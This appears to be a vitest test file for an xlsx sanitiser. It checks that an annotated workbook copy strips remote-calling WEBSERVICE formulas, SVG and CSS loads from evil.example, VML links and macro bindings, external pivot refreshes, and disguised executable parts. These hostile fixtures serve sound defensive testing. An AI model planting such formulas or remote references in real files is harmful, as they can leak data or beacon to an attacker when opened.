import { expect, test } from 'vitest';
import { readWorkbook } from '../read.ts';
import { annotateCells } from '../testing/annotate-cells.ts';
import { sdkWorkbook } from '../testing/foreign-workbooks.ts';
import type { ZipFileEntry } from '../testing/zip-file.ts';
import { MAIN, PACKAGE, RELATIONS } from '../writing/names.ts';
import { WorkbookRefusal } from '../refusal.ts';
import { fits } from './part-fits.ts';
import { openZip } from '../zip/open-zip.ts';

const DRAWING = 'http://schemas.openxmlformats.org/drawingml/2006';
const A14 = 'http://schemas.microsoft.com/office/drawing/2010/main';
const OUT = '_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;)';
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

const link = (id: string, kind: string, target: string): string =>
  `<Relationship Id="${id}" Type="${kind.includes('/') ? kind : `${RELATIONS}/${kind}`}" Target="${target}"/>`;
const links = (part: string, ...lines: string[]): ZipFileEntry => ({
  name: part.replace(/([^/]+)$/, '_rels/$1.rels'),
  data: `<Relationships xmlns="${PACKAGE}/relationships">${lines.join('')}</Relationships>`,
});

interface Made {
  readonly behind?: string;
  readonly relations?: string;
  readonly more?: readonly ZipFileEntry[];
}

/** A workbook with these parts, what is found in it, and the parts of its annotated copy. */
function looked({ behind = '', relations = '', more = [] }: Made) {
  const file = sdkWorkbook({
    sheet: `<worksheet xmlns="${MAIN}" xmlns:r="${RELATIONS}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>${behind}</worksheet>`,
    relations,
    more,
  });
  const copy = annotateCells(file, 'Лист', 'B1');
  const zip = openZip(copy);
  return {
    found: readWorkbook(file).callouts.found.map(({ kind }) => kind),
    names: zip.names,
    all: zip.names.map((name) => zip.text(name)).join('\n'),
  };
}

const SHEET = 'xl/worksheets/sheet.xml';

/** A sheet with a picture that is drawn by this, and the parts it points at. */
const pictured = (blip: string, target: string, more: readonly ZipFileEntry[], ...others: string[]): Made => ({
  behind: '<drawing r:id="d"/>',
  more: [
    links(SHEET, link('d', 'drawing', '/xl/drawings/drawing1.xml')),
    {
      name: 'xl/drawings/drawing1.xml',
      data: `<xdr:wsDr xmlns:xdr="${DRAWING}/spreadsheetDrawing" xmlns:a="${DRAWING}/main" xmlns:r="${RELATIONS}"><xdr:absoluteAnchor><xdr:pic><xdr:blipFill>${blip}</xdr:blipFill></xdr:pic></xdr:absoluteAnchor></xdr:wsDr>`,
    },
    links('xl/drawings/drawing1.xml', link('p', 'image', target), ...others),
    { name: 'xl/media/image1.png', data: PNG },
    ...more,
  ],
});

test('a part is carried over only by relations that say what it is', () => {
  const { found, names } = looked({
    relations: link('t', 'theme', '/xl/evil.exe') + link('s', 'chartStyle', '/xl/evil.bin'),
    more: [
      { name: 'xl/evil.exe', data: 'MZ' },
      { name: 'xl/evil.bin', data: 'MZ' },
    ],
  });
  expect(found).toEqual(['object', 'object']);
  expect(names.filter((name) => name.includes('evil'))).toEqual([]);
});

test('another relation that leads to a part first does not hide what is in it', () => {
  const { found, all } = looked({
    behind: '<tableParts count="1"><tablePart r:id="t"/></tableParts>',
    relations: link('x', 'theme', '/xl/tables/table1.xml'),
    more: [
      links(SHEET, link('t', 'table', '/xl/tables/table1.xml')),
      {
        name: 'xl/tables/table1.xml',
        data: `<table xmlns="${MAIN}" id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="a"><calculatedColumnFormula>${OUT}</calculatedColumnFormula></tableColumn></tableColumns></table>`,
      },
    ],
  });
  expect(found).toContain('function');
  expect(all).toContain('<calculatedColumnFormula>#REF!</calculatedColumnFormula>');
  expect(all).not.toContain('evil.example');
});

test('pictures are carried over when they are pictures and load nothing', () => {
  const svg = (inner: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`;
  const carried = (name: string, data: string | Buffer): boolean =>
    looked(pictured('<a:blip r:embed="p"/>', `/xl/media/${name}`, [{ name: `xl/media/${name}`, data }])).names.includes(
      `xl/media/${name}`,
    );
  expect(carried('a.png', PNG)).toBe(true);
  expect(carried('a.emf', 'MZ')).toBe(false);
  expect(carried('a.svg', svg('<path fill="url(#a)"/><use href="#a"/>'))).toBe(true);
  expect(carried('a.svg', svg('<image href="http://evil.example/p.png"/>'))).toBe(false);
  expect(carried('b.png', svg('<style>a{fill:url(http://evil.example/)}</style>'))).toBe(false);
});

test('a part that cannot be unpacked is left out, whatever it says it is', () => {
  const start = (): Buffer => {
    throw new WorkbookRefusal('damaged', 'x');
  };
  expect(fits('image', { start, text: () => '' })).toBe(false);
});

test('a picture stays when what its extension points at does not', () => {
  const photo = `<a:blip r:embed="p"><a:extLst><a:ext uri="{1}"><a14:imgProps xmlns:a14="${A14}"><a14:imgLayer r:embed="h"/></a14:imgProps></a:ext><a:ext uri="{2}"><a14:cameraTool xmlns:a14="${A14}" cellRange="'evil|c'!A1"/></a:ext></a:extLst></a:blip>`;
  const { found, all, names } = looked(
    pictured(
      photo,
      '/xl/media/image1.png',
      [{ name: 'xl/media/hdphoto1.wdp', data: 'II' }],
      link('h', 'http://schemas.microsoft.com/office/2007/relationships/hdphoto', '/xl/media/hdphoto1.wdp'),
    ),
  );
  expect(found).toEqual(['program']);
  expect(all).toContain('<a:blip r:embed="p"><a:extLst><a:ext uri="{2}">');
  expect(all).not.toMatch(/imgLayer|evil/);
  expect(names).toContain('xl/media/image1.png');
});

test('links of a box are found under any prefix and beside attributes that look like them; a box runs nothing', () => {
  const shape = `<v:shape id="_x0000_s1027" alt=' href="x"' href="http://evil.example/" q:href="http://evil.example/"><x:ClientData ObjectType="Note"><x:FmlaMacro>evil|'c'!A0</x:FmlaMacro><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>`;
  const { found, all } = looked({
    behind: '<legacyDrawing r:id="v"/>',
    more: [
      links(SHEET, link('v', 'vmlDrawing', '/xl/drawings/vmlDrawing1.vml')),
      {
        name: 'xl/drawings/vmlDrawing1.vml',
        data: `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:q="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">${shape}</xml>`,
      },
    ],
  });
  expect(found).toEqual(['link', 'link', 'program']);
  expect(all).toContain(`<v:shape id="_x0000_s1027" alt=' href="x"'><x:ClientData ObjectType="Note"><x:Row>`);
  expect(all).not.toContain('evil');
});

test('the limits of a scale and the source of a pivot table lead nowhere', () => {
  const { found, all } = looked({
    behind: `<conditionalFormatting sqref="A1"><cfRule type="colorScale" priority="1"><colorScale><cfvo type="formula" val="${OUT}"/><cfvo type="max"/><color rgb="FFFF0000"/><color rgb="FF00FF00"/></colorScale></cfRule></conditionalFormatting>`,
    relations: link('p', 'pivotCacheDefinition', '/xl/pivotCache/pivotCacheDefinition1.xml'),
    more: [
      {
        name: 'xl/pivotCache/pivotCacheDefinition1.xml',
        data: `<pivotCacheDefinition xmlns="${MAIN}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/><cacheFields count="1"><cacheField name="a" formula="${OUT}"/></cacheFields></pivotCacheDefinition>`,
      },
    ],
  });
  expect(found).toEqual(['function', 'function']);
  expect(all).toContain('<cfvo type="formula" val="#REF!"/>');
  expect(all).toContain(
    `<pivotCacheDefinition xmlns="${MAIN}"><cacheSource type="worksheet"/><cacheFields count="1"><cacheField name="a"/>`,
  );
});

test('a part is what its own element says, whatever stands before that', () => {
  const text = (xml: string) => ({ start: () => Buffer.from(xml).subarray(0, 4096), text: () => xml });
  const trick = '<?x > <theme ?><worksheet/>';
  expect([fits('theme', text(trick)), fits('rdArray', text(trick)), fits('worksheet', text(trick))]).toEqual([
    false,
    false,
    true,
  ]);
  const far = `${'<!---->'.repeat(5000)}<worksheet/>`;
  expect([fits('rdArray', text(far)), fits('worksheet', text(far))]).toEqual([false, true]);
});

test('a sheet that is also said to be something else is no sheet of the copy', () => {
  const two = `<foo xmlns="${MAIN}"><sheetData><row r="1"><c r="A1"><f>${OUT}</f><v>1</v></c></row></sheetData></foo>`;
  const listed = ['R2', 'r1'].map((id, at) => `<sheet name="Лист${at}" sheetId="${at + 1}" r:id="${id}"/>`).join('');
  const file = sdkWorkbook({
    workbook: `<workbook xmlns="${MAIN}" xmlns:r="${RELATIONS}"><sheets>${listed}</sheets></workbook>`,
    relations: link('r0', 'rdArray', '/xl/two.xml') + link('r1', 'worksheet', '/xl/two.xml'),
    more: [{ name: 'xl/two.xml', data: two }],
  });
  expect(readWorkbook(file).callouts.found.map(({ kind, sheet }) => [kind, sheet])).toContainEqual([
    'function',
    'Лист1',
  ]);
  const copy = openZip(annotateCells(file, 'Лист0', 'B1'));
  expect(copy.text('xl/workbook.xml')).not.toContain('Лист1');
  expect(copy.text('xl/_rels/workbook.xml.rels')).not.toMatch(/worksheet"[^>]*two\.xml/);
});

test('a sheet that no list names is left out and not looked at', () => {
  const sheet = `<worksheet xmlns="${MAIN}"><sheetData><row r="1"><c r="A1"><f>${OUT}</f></c></row></sheetData></worksheet>`;
  const { names, all } = looked({
    relations: link('u', 'worksheet', '/xl/worksheets/unlisted.xml'),
    more: [{ name: 'xl/worksheets/unlisted.xml', data: sheet }],
  });
  expect(names).not.toContain('xl/worksheets/unlisted.xml');
  expect(all).not.toContain('unlisted');
});
